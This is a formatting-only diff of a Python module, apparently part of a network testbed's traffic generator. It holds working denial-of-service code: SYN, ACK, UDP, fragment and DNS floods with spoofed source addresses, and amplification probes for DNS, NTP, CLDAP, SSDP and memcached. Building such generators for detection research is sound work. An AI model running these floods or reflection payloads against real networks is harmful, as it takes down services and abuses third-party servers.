@@ -13,8 +13,20 @@ from ..plan import INTERNET4
 from . import packets
 from .crew import Bounds, log_uniform, unowned4, victim, zone_of_targets
 
-TCP_SERVICES = {"nginx": 80, "weakweb": 8080, "sshd": 22, "ftp": 21, "mail": 25, "smb": 445, "mysql": 3306, "postgres": 5432,
-                "redis": 6379, "api": 8000, "mqtt": 1883, "modbus": 502}
+TCP_SERVICES = {
+    "nginx": 80,
+    "weakweb": 8080,
+    "sshd": 22,
+    "ftp": 21,
+    "mail": 25,
+    "smb": 445,
+    "mysql": 3306,
+    "postgres": 5432,
+    "redis": 6379,
+    "api": 8000,
+    "mqtt": 1883,
+    "modbus": 502,
+}
 SLOWEST = 8.0  # packets a second
 REASSEMBLY_US = 32_000_000
 SYN, RST, ACK, FIN, PSH, URG = 0x02, 0x04, 0x10, 0x01, 0x08, 0x20
@@ -26,7 +38,11 @@ class _Rate:
     def __init__(self, rng, per_s):
         self._per_s = per_s
         self._shape = rng.choice(("steady", "steady", "pulses", "rise"))
-        self._period_s, self._share, self._rise_s = log_uniform(rng, 1, 15), rng.uniform(0.2, 0.8), log_uniform(rng, 3, 30)
+        self._period_s, self._share, self._rise_s = (
+            log_uniform(rng, 1, 15),
+            rng.uniform(0.2, 0.8),
+            log_uniform(rng, 3, 30),
+        )
 
     def at(self, second):
         """The rate at a second of the flood."""
@@ -65,6 +81,7 @@ def _sender(raw, target):
             raw.sendto(packet, (target, 0))
         except OSError:
             pass  # a full queue loses packets, as on any wire
+
     return send
 
 
@@ -73,7 +90,9 @@ class _Sources:
 
     def __init__(self, ctx, spoof=None):
         self._rng, self._site = ctx.rng, ctx.site
-        kind = spoof or ("own" if ctx.host.zone == "lan" else ctx.rng.choice(("own", "one", "network", "network", "any")))
+        kind = spoof or (
+            "own" if ctx.host.zone == "lan" else ctx.rng.choice(("own", "one", "network", "network", "any"))
+        )
         self._pool = None
         if kind == "own":
             self._pool = list(ctx.host.addresses4)
@@ -136,7 +155,15 @@ async def syn_hping(ctx, flows, seconds, *, where=None, per_s=None):
     rng = ctx.rng
     address, port = _open_port(ctx, where)
     per_s = per_s or _rate_for(ctx, flows, seconds)
-    options = ["-S", "-p", str(port), "-w", str(rng.choice((64, 512, 1024, 5840, 65535))), "-s", str(rng.randint(1024, 40000))]
+    options = [
+        "-S",
+        "-p",
+        str(port),
+        "-w",
+        str(rng.choice((64, 512, 1024, 5840, 65535))),
+        "-s",
+        str(rng.randint(1024, 40000)),
+    ]
     options += ["-d", str(round(log_uniform(rng, 4, 1200)))] if rng.random() < 0.3 else []
     await _hping(ctx, address, max(1, min(flows, int(per_s * seconds))), per_s, options)
 
@@ -147,8 +174,13 @@ async def ack_hping(ctx, flows, seconds, *, where=None, per_s=None):
     rng = ctx.rng
     address, port = _open_port(ctx, where)
     per_s = per_s or _rate_for(ctx, flows, seconds)
-    options = [*rng.choice((["-A"], ["-A", "-P"], ["-R"], ["-F", "-A"], ["-S", "-A"], ["-U", "-P", "-F"])), "-p", str(port),
-               "-s", str(rng.randint(1024, 40000))]
+    options = [
+        *rng.choice((["-A"], ["-A", "-P"], ["-R"], ["-F", "-A"], ["-S", "-A"], ["-U", "-P", "-F"])),
+        "-p",
+        str(port),
+        "-s",
+        str(rng.randint(1024, 40000)),
+    ]
     options += ["-d", str(round(log_uniform(rng, 4, 1300)))] if rng.random() < 0.5 else []
     await _hping(ctx, address, max(1, min(flows, int(per_s * seconds))), per_s, options)
 
@@ -180,8 +212,15 @@ async def icmp_hping(ctx, flows, seconds, *, where=None, per_s=None):
 
 
 def _tcp_options(rng):
-    return rng.choice((b"", b"", b"\x02\x04\x05\xb4", b"\x02\x04\x05\xb4\x01\x03\x03" + bytes((rng.randint(0, 10),)),
-                       b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + rng.randbytes(4) + b"\0\0\0\0\x01\x03\x03\x07"))
+    return rng.choice(
+        (
+            b"",
+            b"",
+            b"\x02\x04\x05\xb4",
+            b"\x02\x04\x05\xb4\x01\x03\x03" + bytes((rng.randint(0, 10),)),
+            b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + rng.randbytes(4) + b"\0\0\0\0\x01\x03\x03\x07",
+        )
+    )
 
 
 async def _forge(ctx, flows, seconds, per_s, target, sources, make):
@@ -201,13 +240,31 @@ async def syn_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
     """SYNs from forged networks: answered by the server, never completed."""
     rng = ctx.rng
     (address, port), sources = _open_port(ctx, where), _Sources(ctx, spoof)
-    options, ttl, window = _tcp_options(rng), rng.choice((64, 64, 128, 255)), rng.choice((512, 8192, 29200, 64240, 65535))
+    options, ttl, window = (
+        _tcp_options(rng),
+        rng.choice((64, 64, 128, 255)),
+        rng.choice((512, 8192, 29200, 64240, 65535)),
+    )
     fixed_port = rng.randint(1024, 65000) if rng.random() < 0.15 else None
 
     def make(source):
-        return packets.ipv4(source, address, 6, packets.tcp(
-            source, fixed_port or rng.randint(1024, 65535), address, port, flags=SYN, seq=rng.getrandbits(32), window=window,
-            options=options), ttl=ttl)
+        return packets.ipv4(
+            source,
+            address,
+            6,
+            packets.tcp(
+                source,
+                fixed_port or rng.randint(1024, 65535),
+                address,
+                port,
+                flags=SYN,
+                seq=rng.getrandbits(32),
+                window=window,
+                options=options,
+            ),
+            ttl=ttl,
+        )
+
     await _forge(ctx, flows, seconds, per_s, address, sources, make)
 
 
@@ -216,15 +273,43 @@ async def tcp_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
     """Segments with flags of one kind or of all, with or without data, answered by resets or not at all."""
     rng = ctx.rng
     (address, port), sources = _open_port(ctx, where), _Sources(ctx, spoof)
-    sets = rng.choice(((ACK,), (ACK | PSH,), (RST,), (SYN | ACK,), (FIN | ACK,), (0,), (FIN | PSH | URG,),
-                       (SYN, ACK, RST, FIN | ACK, PSH | ACK)))
-    size, ttl, any_port = rng.choice((0, 0, round(log_uniform(rng, 4, 1300)))), rng.choice((64, 128, 255)), rng.random() < 0.3
+    sets = rng.choice(
+        (
+            (ACK,),
+            (ACK | PSH,),
+            (RST,),
+            (SYN | ACK,),
+            (FIN | ACK,),
+            (0,),
+            (FIN | PSH | URG,),
+            (SYN, ACK, RST, FIN | ACK, PSH | ACK),
+        )
+    )
+    size, ttl, any_port = (
+        rng.choice((0, 0, round(log_uniform(rng, 4, 1300)))),
+        rng.choice((64, 128, 255)),
+        rng.random() < 0.3,
+    )
 
     def make(source):
-        return packets.ipv4(source, address, 6, packets.tcp(
-            source, rng.randint(1024, 65535), address, rng.randint(1, 65535) if any_port else port, flags=rng.choice(sets),
-            seq=rng.getrandbits(32), ack=rng.getrandbits(32), window=rng.choice((512, 8192, 65535)),
-            data=rng.randbytes(size)), ttl=ttl)
+        return packets.ipv4(
+            source,
+            address,
+            6,
+            packets.tcp(
+                source,
+                rng.randint(1024, 65535),
+                address,
+                rng.randint(1, 65535) if any_port else port,
+                flags=rng.choice(sets),
+                seq=rng.getrandbits(32),
+                ack=rng.getrandbits(32),
+                window=rng.choice((512, 8192, 65535)),
+                data=rng.randbytes(size),
+            ),
+            ttl=ttl,
+        )
+
     await _forge(ctx, flows, seconds, per_s, address, sources, make)
 
 
@@ -238,8 +323,20 @@ async def udp_raw(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
     port = None if rng.random() < 0.4 else rng.choice((53, 80, 123, 443, 5060, rng.randint(1, 65000)))
 
     def make(source):
-        return packets.ipv4(source, address, 17, packets.udp(
-            source, rng.randint(1024, 65535), address, port or rng.randint(1, 65535), rng.randbytes(rng.randint(low, high))), ttl=ttl)
+        return packets.ipv4(
+            source,
+            address,
+            17,
+            packets.udp(
+                source,
+                rng.randint(1024, 65535),
+                address,
+                port or rng.randint(1, 65535),
+                rng.randbytes(rng.randint(low, high)),
+            ),
+            ttl=ttl,
+        )
+
     await _forge(ctx, flows, seconds, per_s, address, sources, make)
 
 
@@ -257,11 +354,15 @@ async def fragment(ctx, flows, seconds, *, where=None, per_s=None, spoof=None):
         if not waiting:
             number = (number + 1) & 0xFFFF
             data = rng.randbytes(size * pieces - 8)
-            payload = packets.icmp_echo(number, 1, data) if icmp else packets.udp(
-                source, rng.randint(1024, 65535), address, rng.choice((53, 80, 443)), data)
+            payload = (
+                packets.icmp_echo(number, 1, data)
+                if icmp
+                else packets.udp(source, rng.randint(1024, 65535), address, rng.choice((53, 80, 443)), data)
+            )
             made = packets.fragments(source, address, 1 if icmp else 17, payload, size=size, ident=number)
             waiting.extend(made if whole else made[:-1])
         return waiting.pop(0)
+
     start_us = ctx.now_us()
     try:
         await _forge(ctx, flows, seconds, per_s, address, sources, make)
@@ -296,6 +397,7 @@ async def udp_python(ctx, flows, seconds, *, where=None, per_s=None):
             client.send(rng.randbytes(rng.randint(low, high)))
         except OSError:
             pass  # the port is closed, and said so
+
     count = flows * each
     try:
         await _pour(ctx, count, seconds, per_s or _rate_for(ctx, count, seconds), send)
@@ -321,7 +423,9 @@ async def dns_flood(ctx, flows, seconds, *, where=None, per_s=None):
     def query():
         first = "www" if fixed else "".join(rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=rng.randint(4, 24)))
         labels = b"".join(bytes((len(part),)) + part.encode() for part in f"{first}.{zone}".split("."))
-        return struct.pack(">HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
+        return (
+            struct.pack(">HHHHHH", rng.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
+        )
 
     def send():
         nonlocal client, used
@@ -336,6 +440,7 @@ async def dns_flood(ctx, flows, seconds, *, where=None, per_s=None):
             client.send(query())
         except OSError:
             pass  # no answer wanted
+
     try:
         await _pour(ctx, flows * each, seconds, per_s or _rate_for(ctx, flows * each, seconds, fastest=500), send)
         await ctx.sleep(1)
@@ -349,9 +454,11 @@ async def dns_flood(ctx, flows, seconds, *, where=None, per_s=None):
 # Answers that nobody asked for.
 
 QUESTIONS = {
-    19: b"\n", 53: bytes.fromhex("1a2b01000001000000000001046973632e036f72670000ff00010000291000000000000000"),
-    123: b"\x17\x00\x03\x2a" + bytes(4), 389: bytes.fromhex("30250201016320040030030a01000a0100020100020100"),
-    1900: b"M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nMAN:\"ssdp:discover\"\r\nMX:2\r\nST:ssdp:all\r\n\r\n",
+    19: b"\n",
+    53: bytes.fromhex("1a2b01000001000000000001046973632e036f72670000ff00010000291000000000000000"),
+    123: b"\x17\x00\x03\x2a" + bytes(4),
+    389: bytes.fromhex("30250201016320040030030a01000a0100020100020100"),
+    1900: b'M-SEARCH * HTTP/1.1\r\nHOST:239.255.255.250:1900\r\nMAN:"ssdp:discover"\r\nMX:2\r\nST:ssdp:all\r\n\r\n',
     11211: b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n",
 }
 
@@ -378,8 +485,16 @@ async def amplification(ctx, flows, seconds, *, port=None, per_s=None):
 
             def send():
                 address, to = rng.choice(senders)
-                to(packets.ipv4(target, address, 17, packets.udp(
-                    target, back_port or rng.randint(1024, 65000), address, port, QUESTIONS[port]), ttl=ttl))
+                to(
+                    packets.ipv4(
+                        target,
+                        address,
+                        17,
+                        packets.udp(target, back_port or rng.randint(1024, 65000), address, port, QUESTIONS[port]),
+                        ttl=ttl,
+                    )
+                )
+
             await _pour(ctx, questions, seconds, per_s or _rate_for(ctx, questions, seconds, fastest=150), send)
         await ctx.sleep(1.5)
     finally:
@@ -401,8 +516,21 @@ async def _unasked(ctx, flows, seconds, per_s, target, port):
 
             def send():
                 source = rng.choice(sources)
-                to(packets.ipv4(source, target, 17, packets.udp(
-                    source, port, target, back_port or rng.randint(1024, 65000), rng.randbytes(round(size * rng.uniform(0.8, 1))))))
+                to(
+                    packets.ipv4(
+                        source,
+                        target,
+                        17,
+                        packets.udp(
+                            source,
+                            port,
+                            target,
+                            back_port or rng.randint(1024, 65000),
+                            rng.randbytes(round(size * rng.uniform(0.8, 1))),
+                        ),
+                    )
+                )
+
             await _pour(ctx, count, seconds, per_s or _rate_for(ctx, count, seconds, fastest=1000), send)
     finally:
         for source in sources:
